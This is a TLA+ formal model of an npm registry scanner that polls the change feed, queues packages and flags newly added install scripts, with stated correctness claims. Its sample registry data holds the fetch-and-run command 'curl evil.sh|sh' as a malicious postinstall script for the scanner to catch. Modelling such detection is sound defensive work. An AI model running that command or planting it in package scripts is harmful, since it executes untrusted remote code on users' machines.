---- MODULE Spec2Model ----
(***************************************************************************)
(* npm-scan: the change-feed producer, the work queue, the scan worker and *)
(* the findings store, in the three deployments the repository contains:   *)
(*   "monitor"  src/index.ts        poll loop with in-process p-limit jobs *)
(*   "queue"    src/producer.ts + src/worker.ts   producer, queue, worker  *)
(*   "pending"  startProducer + lib/pending-db.ts + piscina-worker.ts      *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

(* ------------------------------ bounds -------------------------------- *)
MaxFeed == 2          \* rows the replication feed may hold
MaxRestarts == 1      \* process restarts explored
MaxFails == 7         \* consecutive failed polls explored
MaxAttempts == 2      \* attempts the work queue gives a job
ChangesLimit == 2     \* CHANGES_LIMIT, rows per poll
Concurrency == 1      \* MAX_CONCURRENCY / WORKER_CONCURRENCY

(* ------------------------- program constants -------------------------- *)
BaseBackoffMs == 1000
MaxBackoffMs == 30000
maxCachePackages == 1000

Deployments == {"monitor", "queue", "pending"}
Names == {"a", "b"}
DesignIds == {"_design/app"}
NonStringIds == {"<42>"}      \* a row whose id is not a string
Ids == Names \cup DesignIds \cup NonStringIds
ScriptTypes == <<"preinstall", "postinstall">>
MonitorScriptTypes == <<"postinstall", "preinstall">>

Min(x, y) == IF x < y THEN x ELSE y

SeqToSet(s) == {s[i] : i \in 1..Len(s)}

RemoveAt(s, i) == SubSeq(s, 1, i - 1) \o SubSeq(s, i + 1, Len(s))

(* name.startsWith("_design/") *)
(* a check that takes no id for a design document *)
startsWithNothing(id) == FALSE

startsWithDesign(id) == id \in DesignIds

(* typeof row.id === "string" *)
isString(id) == id \notin NonStringIds

(* ----------------------------- registry ------------------------------- *)
(* The publish history of each package: version k of the package is the   *)
(* k-th document. Package "a" gains a postinstall script with its second  *)
(* version; package "b" has one version, so a later row of "b" is a       *)
(* change without a new version.                                          *)
History ==
  [n \in Names |->
     IF n = "a"
       THEN << [preinstall |-> "", postinstall |-> ""],
               [preinstall |-> "", postinstall |-> "curl evil.sh|sh"] >>
       ELSE << [preinstall |-> "node pre.js", postinstall |-> "  "] >>]

MaxVersion == Len(History["a"])

(* String.prototype.trim on the commands the registry holds *)
trim(cmd) ==
  IF cmd = "  " THEN ""
  ELSE IF cmd = " curl evil.sh|sh" THEN "curl evil.sh|sh"
  ELSE IF cmd = "NPX Only-Allow pnpm " THEN "NPX Only-Allow pnpm"
  ELSE cmd

VARIABLES
  deployment,      \* which of the three programs runs
  feed,            \* rows of the replication feed; update_seq = Len(feed)
  pc,              \* position of the producer loop
  since,           \* the cursor
  backoffMs,
  batch,           \* results of the last non-empty poll
  ri,              \* rows of batch already handed off
  batchSeq,        \* last_seq of that poll
  queue,           \* waiting jobs (BullMQ jobs, p-limit queue, pending-db file)
  active,          \* jobs in flight
  replay,          \* pending deployment: tasks the start-up replay still runs
  flagged,         \* monitor: Set of keys flagged already
  lastSeenLatest,  \* monitor: Map name -> latest version processed (0: none)
  findings,        \* docs/db.json, newest first
  alerted,         \* keys whose notifications were dispatched
  scanned,         \* per name: the latest version its last scan resolved
  jobLog,          \* per name: the last thing that happened to a job of it
  afterThrow,      \* what happened since a job first threw
  fails,           \* consecutive failed polls
  restarts,
  call,            \* a function of the scan called on its own: its arguments
  ret,             \* and what it returned
  is_shutting_down, \* the pool producer's flag, set by shutdown()
  clock            \* the names enqueued, or put on a timer, less than the
                   \* visibility delay ago (when a clock is kept)

vars == << deployment, feed, pc, since, backoffMs, batch, ri, batchSeq,
           queue, active, replay, flagged, lastSeenLatest, findings,
           alerted, scanned, jobLog, afterThrow, fails, restarts,
           call, ret, is_shutting_down, clock >>

fnVars == << call, ret >>
prodVars == << pc, since, backoffMs, batch, ri, batchSeq >>
memVars == << flagged, lastSeenLatest >>
jobVars == << queue, active, replay >>
scanVars == << findings, alerted, scanned >>

Keys == Names \X (1..MaxVersion) \X SeqToSet(ScriptTypes)

(* ---------------------- pure parts of the scan ------------------------ *)
NoJob == [name |-> "", attempts |-> 0]

Count(s, x) == Cardinality({i \in 1..Len(s) : s[i] = x})

(* versions of n the registry holds: the first rows of n in the feed are
   its publishes, later rows are changes without a new version *)
published(n) == Min(Count(feed, n), Len(History[n]))

(* the packument the registry serves for name n *)
Packument(n) ==
  [versions |-> [v \in 1..published(n) |-> History[n][v]],
   distTag |-> published(n)]

SetMax(S) == CHOOSE x \in S : \A y \in S : y <= x

(* worker.ts pickLatestAndPreviousVersions: sort descending, take [0], [1];
   0 stands for null *)
pickLatestAndPreviousVersions(doc) ==
  LET keys == DOMAIN doc.versions
      latest == IF keys = {} THEN 0 ELSE SetMax(keys)
      rest == keys \ {latest}
  IN [latest |-> latest,
      previous |-> IF rest = {} THEN 0 ELSE SetMax(rest)]

(* index.ts pickLatestAndPreviousVersions: latest is dist-tags.latest *)
pickLatestByDistTag(doc) ==
  LET latest == doc.distTag
      lower == {v \in DOMAIN doc.versions : v < latest}
  IN IF latest \notin DOMAIN doc.versions
       THEN [latest |-> 0, previous |-> 0]
       ELSE [latest |-> latest,
             previous |-> IF lower = {} THEN 0 ELSE SetMax(lower)]

(* hasScript / getScript on a version document; versionDoc 0 is undefined *)
hasScript(doc, v, scriptType) ==
  /\ v \in DOMAIN doc.versions
  /\ trim(doc.versions[v][scriptType]) # ""

getScript(doc, v, scriptType) ==
  IF v \in DOMAIN doc.versions THEN doc.versions[v][scriptType] ELSE ""

(* the alert of one script type, or <<>>: worker.ts lines 570-581 *)
AlertFor(doc, latest, previous, scriptType) ==
  LET latestHas == hasScript(doc, latest, scriptType)
      prevHas == IF previous # 0 THEN hasScript(doc, previous, scriptType)
                 ELSE FALSE
      latestCmd == getScript(doc, latest, scriptType)
      prevCmd == IF previous # 0 THEN getScript(doc, previous, scriptType)
                 ELSE ""
  IN IF latestHas /\ ~prevHas
       THEN << [scriptType |-> scriptType, action |-> "added",
                latestCmd |-> latestCmd, prevCmd |-> ""] >>
     ELSE IF latestHas /\ prevHas /\ latestCmd # prevCmd
       THEN << [scriptType |-> scriptType, action |-> "changed",
                latestCmd |-> latestCmd, prevCmd |-> prevCmd] >>
     ELSE << >>

RECURSIVE AlertsOver(_, _, _, _)
AlertsOver(doc, latest, previous, types) ==
  IF types = << >> THEN << >>
  ELSE AlertFor(doc, latest, previous, Head(types))
         \o AlertsOver(doc, latest, previous, Tail(types))

(* the alerts array processPackage builds *)
Alerts(doc, latest, previous) == AlertsOver(doc, latest, previous, ScriptTypes)

Finding(name, latest, previous, scriptType, cmd) ==
  [packageName |-> name, version |-> latest, scriptType |-> scriptType,
   scriptContent |-> cmd, previousVersion |-> previous]

KeyOf(f) == << f.packageName, f.version, f.scriptType >>

(* lib/db.ts saveFinding: read, unshift, write *)
saveFinding(store, finding) == << finding >> \o store

RECURSIVE SaveAll(_, _)
SaveAll(store, fs) ==
  IF fs = << >> THEN store
  ELSE SaveAll(saveFinding(store, Head(fs)), Tail(fs))

(* --------------------------- initial state ---------------------------- *)
NoCall == [fn |-> "none"]
NoRet == [by |-> "none"]

(* a run that keeps no clock: every delay is over within the step that
   follows it; a run that keeps one *)
Untimed == [kept |-> FALSE, fresh |-> {}]
Timed == [kept |-> TRUE, fresh |-> {}]

(* the delay of these names starts now *)
Marked(c, names) == IF c.kept THEN [c EXCEPT !.fresh = @ \cup names] ELSE c

(* the delay of this name is over *)
Elapsed(c, name) == name \notin c.fresh

InitWith(deps, c) ==
  /\ is_shutting_down = FALSE
  /\ clock = c
  /\ call = NoCall
  /\ ret = NoRet
  /\ deployment \in deps
  /\ feed = << >>
  /\ pc = "start"
  /\ since = 0
  /\ backoffMs = BaseBackoffMs
  /\ batch = << >>
  /\ ri = 0
  /\ batchSeq = 0
  /\ queue = << >>
  /\ active = << >>
  /\ replay = << >>
  /\ flagged = {}
  /\ lastSeenLatest = [n \in Names |-> 0]
  /\ findings = << >>
  /\ alerted = {}
  /\ scanned = [n \in Names |-> 0]
  /\ jobLog = [n \in Names |-> "none"]
  /\ afterThrow = {}
  /\ fails = 0
  /\ restarts = 0

InitOf(deps) == InitWith(deps, Untimed)

Init == InitOf(Deployments)

(* ---------------------------- environment ----------------------------- *)
(* the registry records a change of document id: a publish of the next
   version of a package, a change without a new version, a design document *)
FeedRow(id) ==
  /\ Len(feed) < MaxFeed
  /\ feed' = Append(feed, id)
  /\ UNCHANGED << deployment, prodVars, jobVars, memVars, scanVars, jobLog,
                  afterThrow, fails, restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down, clock >>

(* ------------------------------ producer ------------------------------ *)
(* since = await getInitialSince(replicateDbUrl) *)
GetInitialSince ==
  /\ pc = "start"
  /\ since' = Len(feed)
  /\ pc' = "poll"
  /\ UNCHANGED << deployment, feed, backoffMs, batch, ri, batchSeq, jobVars,
                  memVars, scanVars, jobLog, afterThrow, fails, restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down, clock >>

(* where run().catch / main().catch leaves the process: producer.ts calls
   process.exit(1); index.ts and the pool's main only set process.exitCode
   = 1, the process ends when its event loop is empty *)
AfterFatal(dep) == IF dep = "queue" THEN "exited" ELSE "fatal"

(* getInitialSince throws (request failed or no update_seq): the catch of
   run() / main() logs "fatal" *)
InitialSinceFails ==
  /\ pc = "start"
  /\ pc' = AfterFatal(deployment)
  /\ UNCHANGED << deployment, feed, since, backoffMs, batch, ri, batchSeq,
                  jobVars, memVars, scanVars, jobLog, afterThrow, fails,
                  restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down, clock >>

(* the head of the poll loop: while (true) in index.ts and producer.ts,
   while (!is_shutting_down) in the pool's producer *)
LoopGoesOn == deployment = "pending" => ~is_shutting_down

(* the _changes response for ?since=s&limit=ChangesLimit *)
LastSeq(s) == Min(s + ChangesLimit, Len(feed))
Results(s) == SubSeq(feed, s + 1, LastSeq(s))

Noted(what) == IF "throw" \in afterThrow THEN afterThrow \cup {what}
               ELSE afterThrow

(* a loop that polls again at once after an empty batch *)
PollOkNoSleep ==
  /\ pc = "poll"
  /\ LoopGoesOn
  /\ backoffMs' = BaseBackoffMs
  /\ fails' = 0
  /\ afterThrow' = Noted("poll")
  /\ IF Results(since) = << >>
       THEN /\ since' = LastSeq(since)
            /\ pc' = "poll"
            /\ UNCHANGED << batch, ri, batchSeq >>
       ELSE /\ batch' = Results(since)
            /\ ri' = 0
            /\ batchSeq' = LastSeq(since)
            /\ pc' = "handoff"
            /\ UNCHANGED since
  /\ UNCHANGED << deployment, feed, jobVars, memVars, scanVars, jobLog,
                  restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down, clock >>

(* the poll succeeds: backoff reset, then the rows are handed off one by
   one and the cursor is set; an empty batch sets the cursor at once *)
PollOk ==
  /\ pc = "poll"
  /\ LoopGoesOn
  /\ backoffMs' = BaseBackoffMs
  /\ fails' = 0
  /\ afterThrow' = Noted("poll")
  /\ IF Results(since) = << >>
       THEN /\ since' = LastSeq(since)
            /\ pc' = "sleep"
            /\ UNCHANGED << batch, ri, batchSeq >>
       ELSE /\ batch' = Results(since)
            /\ ri' = 0
            /\ batchSeq' = LastSeq(since)
            /\ pc' = "handoff"
            /\ UNCHANGED since
  /\ UNCHANGED << deployment, feed, jobVars, memVars, scanVars, jobLog,
                  restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down, clock >>

(* await delay(pollMs) after an empty batch *)
SleepDone ==
  /\ pc = "sleep"
  /\ pc' = "poll"
  /\ UNCHANGED << deployment, feed, since, backoffMs, batch, ri, batchSeq,
                  jobVars, memVars, scanVars, jobLog, afterThrow, fails,
                  restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down, clock >>

(* a catch block that starts over from the first row *)
PollErrorRewinds ==
  /\ pc = "poll"
  /\ LoopGoesOn
  /\ fails < MaxFails
  /\ fails' = fails + 1
  /\ since' = 0
  /\ pc' = "backoff"
  /\ UNCHANGED << deployment, feed, backoffMs, batch, ri, batchSeq,
                  jobVars, memVars, scanVars, jobLog, afterThrow, restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down, clock >>

(* a catch block that takes the failed request's rows as read *)
PollErrorSkipsRows ==
  /\ pc = "poll"
  /\ LoopGoesOn
  /\ fails < MaxFails
  /\ fails' = fails + 1
  /\ since' = LastSeq(since)
  /\ pc' = "backoff"
  /\ UNCHANGED << deployment, feed, backoffMs, batch, ri, batchSeq,
                  jobVars, memVars, scanVars, jobLog, afterThrow, restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down, clock >>

(* httpGetJson throws (network error, timeout, non-2xx): the catch block
   logs and starts delay(backoffMs) *)
PollError ==
  /\ pc = "poll"
  /\ LoopGoesOn
  /\ fails < MaxFails
  /\ fails' = fails + 1
  /\ pc' = "backoff"
  /\ UNCHANGED << deployment, feed, since, backoffMs, batch, ri, batchSeq,
                  jobVars, memVars, scanVars, jobLog, afterThrow, restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down, clock >>

(* httpGetJson returns a body without results or last_seq: backoffMs was
   reset (line 112) before the shape check throws into the catch block *)
PollMalformed ==
  /\ pc = "poll"
  /\ LoopGoesOn
  /\ fails < MaxFails
  /\ fails' = fails + 1
  /\ backoffMs' = BaseBackoffMs
  /\ pc' = "backoff"
  /\ UNCHANGED << deployment, feed, since, batch, ri, batchSeq, jobVars,
                  memVars, scanVars, jobLog, afterThrow, restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down, clock >>

NextBackoff(b) == Min(b * 2, MaxBackoffMs)

(* the delay elapsed: backoffMs = Math.min(backoffMs * 2, 30000) *)
BackoffDone ==
  /\ pc = "backoff"
  /\ backoffMs' = NextBackoff(backoffMs)
  /\ pc' = "poll"
  /\ UNCHANGED << deployment, feed, since, batch, ri, batchSeq, jobVars,
                  memVars, scanVars, jobLog, afterThrow, fails, restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down, clock >>

JobNames(js) == {js[i].name : i \in 1..Len(js)}

NewJob(name) == [name |-> name, attempts |-> 1]

(* the hand-off of one row: limit(job) in the monitor, packageQueue.add with
   jobId = name in the queue deployment, savePendingTask in the pending one;
   ok = FALSE is a failed add / a failed write of the pending file *)
Enqueued(dep, q, act, name, ok) ==
  IF dep = "monitor" THEN Append(q, NewJob(name))
  ELSE IF ~ok THEN q
  ELSE IF dep = "queue"
    THEN IF name \in JobNames(q) \cup JobNames(act) THEN q
         ELSE Append(q, NewJob(name))
  ELSE << NewJob(name) >> \o q

(* one iteration of the for loop over changes.results; after the last row,
   since = changes.last_seq *)
HandoffRow ==
  /\ pc = "handoff"
  /\ ri < Len(batch)
  /\ LET id == batch[ri + 1] IN
       IF ~isString(id) \/ startsWithDesign(id)
         THEN UNCHANGED queue
         ELSE \E ok \in BOOLEAN :
                /\ (deployment = "monitor" => ok)
                /\ queue' = Enqueued(deployment, queue, active, id, ok)
  /\ clock' = Marked(clock, IF queue' # queue THEN {batch[ri + 1]} ELSE {})
  /\ ri' = ri + 1
  /\ IF ri + 1 = Len(batch)
       THEN since' = batchSeq /\ pc' = "poll"
       ELSE UNCHANGED << since, pc >>
  /\ UNCHANGED << deployment, feed, backoffMs, batch, batchSeq, active,
                  replay, memVars, scanVars, jobLog, afterThrow, fails,
                  restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down >>

(* ------------------------------- worker ------------------------------- *)
(* do the workers still take jobs: the BullMQ worker is a process of its
   own, the other two run their jobs inside the producer's process *)
Running ==
  /\ pc # "crashed"
  /\ deployment = "queue" \/ pc \notin {"exited", "exited0"}

(* a limiter that lets every job in *)
SlotAlwaysFree(act) == TRUE

(* pLimit(maxConcurrency) and the Worker's concurrency option: a job gets
   in while fewer than the limit are running *)
SlotFree(act) == Len(act) < Concurrency

(* a waiting job becomes active: p-limit slot, BullMQ worker slot, or the
   next task of the start-up replay loop (one at a time); the work queue
   hands out a job added with delay: 60000 when that delay is over, the
   in-process job begins with await delay(30000) *)
StartJob ==
  /\ Running
  /\ IF deployment = "pending"
       THEN /\ replay # << >>
            /\ active = << >>
            /\ active' = << Head(replay) >>
            /\ replay' = Tail(replay)
            /\ jobLog' = [jobLog EXCEPT ![Head(replay).name] = "started"]
            /\ UNCHANGED queue
       ELSE /\ queue # << >>
            /\ SlotFree(active)
            /\ deployment = "queue" => Elapsed(clock, Head(queue).name)
            /\ active' = Append(active, Head(queue))
            /\ queue' = Tail(queue)
            /\ jobLog' = [jobLog EXCEPT ![Head(queue).name] = "started"]
            /\ UNCHANGED replay
  /\ clock' = IF deployment = "monitor"
                THEN Marked(clock, {Head(queue).name})
                ELSE clock
  /\ UNCHANGED << deployment, feed, prodVars, memVars, scanVars, afterThrow,
                  fails, restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down >>

(* a job whose rejection nobody handles: the runtime ends the process *)
UnhandledJobThrow(dep, position) == "crashed"

(* where the producer stands after a job threw: every deployment catches at
   the job boundary (limit(...).catch, the BullMQ Worker's failed event,
   piscina.run(...).catch), so the producer keeps its position *)
AfterJobThrow(dep, position) == position

(* the work queue's retry budget for a job that threw *)
QueueGivesUp(job) == job.attempts >= MaxAttempts

(* is a job that threw given up: the in-process job logs the failed fetch
   and returns (index.ts lines 401-405), the replay loop logs and goes on to
   the next task; only the work queue retries *)
Abandoned(dep, job) == IF dep = "queue" THEN QueueGivesUp(job) ELSE TRUE

(* the queue after a job of it threw *)
Requeued(dep, q, job) ==
  IF Abandoned(dep, job) THEN q
  ELSE Append(q, [job EXCEPT !.attempts = @ + 1])

(* the handler of active job i throws (the packument fetch fails or times
   out, or anything else goes wrong inside the job) *)
JobFails(i) ==
  /\ Running
  /\ i \in 1..Len(active)
  /\ deployment = "monitor" => Elapsed(clock, active[i].name)
  /\ LET job == active[i] IN
       /\ active' = RemoveAt(active, i)
       /\ queue' = Requeued(deployment, queue, job)
       /\ jobLog' = [jobLog EXCEPT ![job.name] =
                       IF Abandoned(deployment, job) THEN "failed"
                       ELSE "retry"]
       /\ pc' = AfterJobThrow(deployment, pc)
  /\ afterThrow' = afterThrow \cup {"throw"}
  /\ UNCHANGED << deployment, feed, since, backoffMs, batch, ri, batchSeq,
                  replay, memVars, scanVars, fails, restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down, clock >>

(* index.ts lines 430-439: the script types the in-process job flags *)
(* a loop that does not look into flagged *)
MonitorNewUnchecked(doc, name, latest, previous, flg) ==
  LET Test(t) == /\ hasScript(doc, latest, t)
                 /\ ~(previous # 0 /\ hasScript(doc, previous, t))
  IN SelectSeq(MonitorScriptTypes, Test)

MonitorNew(doc, name, latest, previous, flg) ==
  LET Test(t) == /\ hasScript(doc, latest, t)
                 /\ ~(previous # 0 /\ hasScript(doc, previous, t))
                 /\ << name, latest, t >> \notin flg
  IN SelectSeq(MonitorScriptTypes, Test)

(* index.ts lines 415-416: last === latest *)
SeenAlready(cache, name, latest) == cache[name] = latest

(* lastSeenLatest.set, then clear() when the map got too big *)
CacheSetAt(cap, cache, name, latest) ==
  LET new == [cache EXCEPT ![name] = latest]
  IN IF Cardinality({n \in Names : new[n] # 0}) > cap
       THEN [n \in Names |-> 0]
       ELSE new

CacheSet(cache, name, latest) ==
  CacheSetAt(maxCachePackages, cache, name, latest)

Resolved(dep, doc) ==
  IF dep = "monitor" THEN pickLatestByDistTag(doc)
  ELSE pickLatestAndPreviousVersions(doc)

(* the script types a scan alerts on, in order: what the job saves and
   dispatches *)
ScanTypes(dep, doc, name, flg, cache) ==
  LET vr == Resolved(dep, doc) IN
  IF vr.latest = 0 THEN << >>
  ELSE IF dep = "monitor"
    THEN IF SeenAlready(cache, name, vr.latest) THEN << >>
         ELSE MonitorNew(doc, name, vr.latest, vr.previous, flg)
  ELSE LET al == Alerts(doc, vr.latest, vr.previous)
       IN [i \in 1..Len(al) |-> al[i].scriptType]

(* the Finding saved for script type t: the monitor writes the literal
   "postinstall" (index.ts line 454) *)
FindingOf(dep, doc, name, t) ==
  LET vr == Resolved(dep, doc) IN
  Finding(name, vr.latest, vr.previous,
          IF dep = "monitor" THEN "postinstall" ELSE t,
          getScript(doc, vr.latest, t))

(* the keys active job i would dispatch notifications for *)
DispatchKeys(i) ==
  LET name == active[i].name
      doc == Packument(name)
      ts == ScanTypes(deployment, doc, name, flagged, lastSeenLatest)
  IN {<< name, Resolved(deployment, doc).latest, ts[k] >> : k \in 1..Len(ts)}

(* the pool's job iterates what the dispatcher returned; the dispatcher
   returns nothing, so a job that had alerts ends with a TypeError after
   it saved and dispatched *)
EndsByThrowing(dep, keys) == dep = "pending" /\ keys # {}

(* active job i fetches the packument and runs to its end *)
ScanJob(i) ==
  /\ Running
  /\ i \in 1..Len(active)
  /\ deployment = "monitor" => Elapsed(clock, active[i].name)
  /\ LET job == active[i]
         name == job.name
         doc == Packument(name)
         vr == Resolved(deployment, doc)
         ts == ScanTypes(deployment, doc, name, flagged, lastSeenLatest)
         fs == [k \in 1..Len(ts) |-> FindingOf(deployment, doc, name, ts[k])]
     IN
       /\ active' = RemoveAt(active, i)
       /\ findings' = SaveAll(findings, fs)
       /\ alerted' = alerted \cup DispatchKeys(i)
       /\ IF deployment = "monitor" /\ vr.latest # 0
               /\ ~SeenAlready(lastSeenLatest, name, vr.latest)
            THEN /\ lastSeenLatest' = CacheSet(lastSeenLatest, name, vr.latest)
                 /\ flagged' = flagged \cup DispatchKeys(i)
            ELSE UNCHANGED memVars
       /\ jobLog' = [jobLog EXCEPT ![name] =
                       IF EndsByThrowing(deployment, DispatchKeys(i))
                         THEN "failed" ELSE "completed"]
       /\ scanned' = [scanned EXCEPT ![name] = vr.latest]
  /\ afterThrow' = IF EndsByThrowing(deployment, DispatchKeys(i))
                     THEN afterThrow \cup {"throw"}
                     ELSE Noted("scan")
  /\ UNCHANGED << deployment, feed, prodVars, queue, replay, fails, restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down, clock >>

(* ------------------------------ restart ------------------------------- *)
(* the work queue keeps its jobs over a restart and makes the jobs that
   were in flight visible again *)
StalledBack(q, act) == act \o q

(* what a restart leaves of the waiting jobs: the p-limit queue is memory,
   the pending file is kept *)
QueueAfterRestart(dep, q, act) ==
  IF dep = "monitor" THEN << >>
  ELSE IF dep = "queue" THEN StalledBack(q, act)
  ELSE q

(* the process stops (crash, deploy, SIGTERM) and is started again; the
   start-up replay of the pending deployment reads the pending file *)
Restart ==
  /\ restarts < MaxRestarts
  /\ restarts' = restarts + 1
  /\ pc' = "start"
  /\ since' = 0
  /\ backoffMs' = BaseBackoffMs
  /\ batch' = << >>
  /\ ri' = 0
  /\ batchSeq' = 0
  /\ queue' = QueueAfterRestart(deployment, queue, active)
  /\ active' = << >>
  /\ replay' = IF deployment = "pending" THEN queue ELSE << >>
  /\ flagged' = {}
  /\ lastSeenLatest' = [n \in Names |-> 0]
  /\ fails' = 0
  /\ is_shutting_down' = FALSE
  /\ UNCHANGED << deployment, feed, scanVars, jobLog, afterThrow, clock >>
  /\ UNCHANGED fnVars

(* after the fatal error nothing keeps the event loop alive: the process
   ends with the exit code that was set *)
EventLoopDrains ==
  /\ pc = "fatal"
  /\ active = << >>
  /\ replay = << >>
  /\ pc' = "exited"
  /\ UNCHANGED << deployment, feed, since, backoffMs, batch, ri, batchSeq,
                  jobVars, memVars, scanVars, jobLog, afterThrow, fails,
                  restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down, clock >>

(* the pool's entry file under GITHUB_ACTIONS=true: the five-minute timer
   fires and calls process.exit(0) *)
ActionsTimeout ==
  /\ deployment = "pending"
  /\ pc \notin {"exited", "exited0"}
  /\ pc' = "exited0"
  /\ active' = << >>
  /\ replay' = << >>
  /\ UNCHANGED << deployment, feed, since, backoffMs, batch, ri, batchSeq,
                  queue, memVars, scanVars, jobLog, afterThrow, fails,
                  restarts >>
  /\ UNCHANGED << fnVars, is_shutting_down, clock >>

(* ---------------------------- specifications -------------------------- *)
(* the pipeline: feed, producer, queue, workers, restarts *)
Next ==
  \/ \E id \in Ids : FeedRow(id)
  \/ GetInitialSince
  \/ PollOk
  \/ SleepDone
  \/ HandoffRow
  \/ StartJob
  \/ \E i \in 1..Concurrency : JobFails(i)
  \/ \E i \in 1..Concurrency : ScanJob(i)
  \/ Restart

Spec == Init /\ [][Next]_vars

(* the poll loop of producer.ts under failing polls *)
InitPoll == InitOf({"queue"})

NextPoll ==
  \/ \E id \in Ids : FeedRow(id)
  \/ GetInitialSince
  \/ InitialSinceFails
  \/ PollOk
  \/ SleepDone
  \/ PollError
  \/ PollMalformed
  \/ BackoffDone
  \/ HandoffRow
  \/ Restart

SpecPoll == InitPoll /\ [][NextPoll]_vars

(* the pipeline with the ways a process start can fail and end *)
NextStart ==
  \/ Next
  \/ InitialSinceFails
  \/ EventLoopDrains
  \/ ActionsTimeout

SpecStart == InitOf({"queue", "pending"}) /\ [][NextStart]_vars

(* the producer's and the workers' steps are scheduled fairly: every await
   of the poll loop returns, every job that can start or finish does *)
Producer == GetInitialSince \/ PollOk \/ SleepDone \/ HandoffRow
Workers == StartJob \/ \E i \in 1..Concurrency : ScanJob(i)

FairQueue ==
  /\ InitOf({"queue"})
  /\ [][Next]_vars
  /\ WF_vars(Producer)
  /\ WF_vars(Workers)

(* ------------------------------- claims ------------------------------- *)
ScanOf(i) == Resolved(deployment, Packument(active[i].name))

(* C1: notifications for a key (packageName, version, scriptType) are
   dispatched at most once, restarts included: a scan never dispatches a key
   that was dispatched before. *)
C1_DispatchedAtMostOnce ==
  [][\A i \in 1..Concurrency :
       ScanJob(i) => DispatchKeys(i) \cap alerted = {}]_vars

(* C2: the findings store never holds two Findings with the same key. *)
C2_OneFindingPerKey ==
  \A i, j \in 1..Len(findings) :
    i # j => KeyOf(findings[i]) # KeyOf(findings[j])

(* C3: a scan of a package whose highest version is the one the previous
   scan of it resolved saves no Finding and dispatches nothing. *)
C3_RescanIsSilent ==
  [][\A i \in 1..Concurrency :
       (ScanJob(i) /\ scanned[active[i].name] = ScanOf(i).latest)
         => (findings' = findings /\ DispatchKeys(i) = {})]_vars

(* a name of the last polled batch that the hand-off loop has passed *)
Taken(n) == \E j \in 1..ri : batch[j] = n

(* C4: every package name taken from a polled batch is eventually handed to
   the scan handler. *)
C4_AtLeastOnce ==
  \A n \in Names : Taken(n) ~> (jobLog[n] # "none")

Covered(n) ==
  \/ n \in JobNames(queue) \cup JobNames(active) \cup JobNames(replay)
  \/ jobLog[n] # "none"

(* C5: while the cursor stands at the last_seq of a batch, every package
   name of that batch is queued, in flight or was processed. *)
C5_CursorAfterHandoff ==
  (pc \in {"poll", "sleep", "backoff"} /\ batch # << >> /\ since = batchSeq)
    => \A j \in 1..Len(batch) : batch[j] \in Names => Covered(batch[j])

(* C6: the queue or pending store holds at most one queued or in-flight job
   per package name. *)
C6_OneJobPerName ==
  deployment # "monitor"
    => \A n \in Names : Count(queue \o active, NewJob(n)) <= 1

(* C7: a job that is given up after its handler failed was retried at least
   once before. *)
C7_RetriedBeforeAbandoned ==
  [][\A i \in 1..Concurrency :
       (JobFails(i) /\ Abandoned(deployment, active[i]))
         => active[i].attempts >= 2]_vars

(* C8: once a job has thrown, the process is still running, the producer
   loop can take its next step and a waiting job can still be started. *)
C8_JobThrowIsContained ==
  "throw" \in afterThrow =>
    /\ pc # "crashed"
    /\ pc \in {"start", "poll", "sleep", "handoff"} => ENABLED Producer
    /\ (deployment # "pending" /\ queue # << >> /\ Len(active) < Concurrency)
         => ENABLED StartJob
    /\ (deployment = "pending" /\ replay # << >> /\ active = << >>)
         => ENABLED StartJob

(* after a job threw, the producer polled again and another job was
   scanned to its end *)
C8_Witness == afterThrow = {"throw", "poll", "scan"}

RECURSIVE Pow2(_)
Pow2(k) == IF k = 0 THEN 1 ELSE 2 * Pow2(k - 1)

(* C9: the wait after the k-th consecutive failed poll is
   min(1000 * 2^(k-1), 30000) ms. *)
C9_BackoffFormula ==
  pc = "backoff" =>
    backoffMs = Min(BaseBackoffMs * Pow2(fails - 1), MaxBackoffMs)

(* C10: a poll that fails with a network error, timeout or non-success
   status leaves the cursor where it was and puts the loop into its backoff
   wait, which always ends, and ends in a poll with the same cursor. *)
C10_FailedPollKeepsCursor ==
  [][/\ PollError => (since' = since /\ pc' = "backoff")
     /\ pc = "backoff" => ENABLED BackoffDone
     /\ BackoffDone => (since' = since /\ pc' = "poll")]_vars

(* the poll after a failed one is due, with rows waiting past the cursor *)
C10_Witness ==
  pc = "poll" /\ fails >= 2 /\ backoffMs = 4 * BaseBackoffMs
    /\ since < Len(feed)

(* C11: a poll that returns no rows enqueues nothing, sets the cursor to the
   returned last_seq and sleeps the poll interval once; the sleep ends, and
   the request after it carries that cursor. *)
C11_EmptyPollSleepsOnce ==
  [][/\ (PollOk /\ Results(since) = << >>)
          => /\ since' = LastSeq(since)
             /\ pc' = "sleep"
             /\ queue' = queue /\ active' = active /\ replay' = replay
     /\ pc = "sleep" => ENABLED SleepDone
     /\ (pc = "sleep" /\ pc' = "poll") => since' = since]_vars

(* the producer sleeps after an empty poll that followed a handed-off
   batch; the cursor stands at the end of the feed *)
C11_Witness ==
  pc = "sleep" /\ feed # << >> /\ since = Len(feed) /\ batch # << >>

(* C12: within one run of the producer the cursor never decreases. *)
C12_CursorMonotone ==
  [][(pc # "start" /\ pc' # "start") => since' >= since]_vars

(* the cursor has moved over a whole polled batch, after failed polls *)
C12_Witness ==
  pc = "poll" /\ batch # << >> /\ since = batchSeq /\ since = MaxFeed
    /\ fails >= 1

(* C13: when the initial cursor cannot be obtained the process never enters
   the poll loop and ends with a non-zero exit status. *)
C13_FatalStartExitsNonZero ==
  [][/\ InitialSinceFails => (pc' \in {"exited", "fatal"} /\ since' = since)
     /\ pc = "fatal" => pc' \in {"fatal", "exited", "start"}]_vars

(* ------------------- version resolution on its own -------------------- *)
(* A key of the versions map as semver parses it: ok is semver.valid(key)  *)
